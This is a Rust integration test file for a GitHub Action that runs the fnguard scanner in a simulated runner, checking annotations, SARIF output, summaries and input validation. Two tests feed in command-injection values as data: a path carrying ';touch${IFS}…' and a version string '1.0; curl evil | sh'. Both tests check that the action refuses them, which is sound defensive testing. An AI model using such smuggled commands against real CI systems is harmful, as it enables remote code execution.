//! The GitHub Action's scripts (`action/*.sh`) run as the runner would run them: inputs as
//! `INPUT_*` variables, `GITHUB_OUTPUT`, `GITHUB_PATH`, `GITHUB_STEP_SUMMARY` and `RUNNER_TEMP`
//! as files and directories of a simulated runner.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test helpers may panic

use std::path::{Path, PathBuf};
use std::process::Command;

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

struct Runner {
    dir: tempfile::TempDir,
}

impl Runner {
    fn new() -> Runner {
        let dir = tempfile::tempdir().unwrap();
        for f in ["output", "path", "summary"] {
            std::fs::write(dir.path().join(f), "").unwrap();
        }
        std::fs::create_dir(dir.path().join("temp")).unwrap();
        Runner { dir }
    }

    fn file(&self, name: &str) -> String {
        std::fs::read_to_string(self.dir.path().join(name)).unwrap()
    }

    fn script(&self, name: &str, inputs: &[(&str, &str)]) -> std::process::Output {
        // The install step put fnguard on PATH through GITHUB_PATH; here the built binary.
        let install = Command::new("bash")
            .arg(workspace().join("action/install.sh"))
            .env("FNGUARD_BINARY", assert_cmd::cargo::cargo_bin("fnguard"))
            .env("RUNNER_TEMP", self.dir.path().join("temp"))
            .env("GITHUB_PATH", self.dir.path().join("path"))
            .output()
            .unwrap();
        assert!(install.status.success(), "{install:?}");
        let bin_dir = self.file("path").lines().last().unwrap().to_string();
        let mut c = Command::new("bash");
        c.arg(workspace().join("action").join(name))
            .current_dir(workspace())
            .env(
                "PATH",
                format!("{bin_dir}:{}", std::env::var("PATH").unwrap_or_default()),
            )
            .env("RUNNER_TEMP", self.dir.path().join("temp"))
            .env("GITHUB_OUTPUT", self.dir.path().join("output"))
            .env("GITHUB_STEP_SUMMARY", self.dir.path().join("summary"))
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_WORKSPACE", workspace())
            .env("FNGUARD_TODAY", "2026-12-04")
            .env("FNGUARD_DB", "/nonexistent/fnguard-test-db");
        for (k, v) in inputs {
            c.env(k, v);
        }
        c.output().unwrap()
    }
}

#[test]
fn the_action_annotates_uploads_sarif_and_summarises() {
    let r = Runner::new();
    let out = r.script(
        "run.sh",
        &[
            ("INPUT_PATHS", "examples/sam-shop\nexamples/orders-api"),
            ("INPUT_FAIL_ON", "high"),
            ("INPUT_FORMAT", "github"),
            ("INPUT_UPLOAD_SARIF", "true"),
            ("INPUT_SUMMARY", "true"),
            ("INPUT_ARGS", "--ignore FG102"),
        ],
    );
    assert!(out.status.success(), "the step defers failing: {out:?}");
    let log = String::from_utf8_lossy(&out.stdout);
    assert!(
        log.lines()
            .any(|l| l.starts_with("::error file=examples/sam-shop/template.yaml,line=")),
        "{log}"
    );
    assert!(!log.contains("FG102"), "extra args reach the scan: {log}");
    let outputs = r.file("output");
    assert!(outputs.contains("exit-code=1\n"), "{outputs}");
    let sarif_path = outputs
        .lines()
        .find_map(|l| l.strip_prefix("sarif-file="))
        .unwrap();
    let sarif: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(sarif_path).unwrap()).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    assert!(!sarif["runs"][0]["results"].as_array().unwrap().is_empty());
    let summary = r.file("summary");
    assert!(summary.contains("FG201"), "{summary}");
}

#[test]
fn a_clean_scan_exits_zero_and_bad_inputs_stop_the_step() {
    let r = Runner::new();
    let out = r.script(
        "run.sh",
        &[
            ("INPUT_PATHS", "examples/sam-shop"),
            ("INPUT_FAIL_ON", "none"),
            ("INPUT_SUMMARY", "false"),
        ],
    );
    assert!(out.status.success());
    assert!(r.file("output").contains("exit-code=0\n"));
    assert!(r.file("summary").is_empty());

    let out = r.script("run.sh", &[("INPUT_FAIL_ON", "sometimes")]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("::error title=fnguard::fail-on"));
    // An input is data: shell syntax in it is passed to fnguard as a path, never run.
    let marker = r.dir.path().join("pwned");
    let out = r.script(
        "run.sh",
        &[
            (
                "INPUT_PATHS",
                &format!("examples/sam-shop;touch${{IFS}}{}", marker.display()),
            ),
            ("INPUT_SUMMARY", "false"),
        ],
    );
    assert!(out.status.success());
    assert!(!marker.exists());
    assert!(r.file("output").contains("exit-code=2\n"));
}

#[test]
fn install_refuses_a_version_that_is_not_a_release_number() {
    let dir = tempfile::tempdir().unwrap();
    let out = Command::new("bash")
        .arg(workspace().join("action/install.sh"))
        .env("FNGUARD_VERSION", "1.0; curl evil | sh")
        .env("RUNNER_TEMP", dir.path())
        .env("GITHUB_PATH", dir.path().join("path"))
        .env_remove("FNGUARD_BINARY")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("version must be a release number"));
}
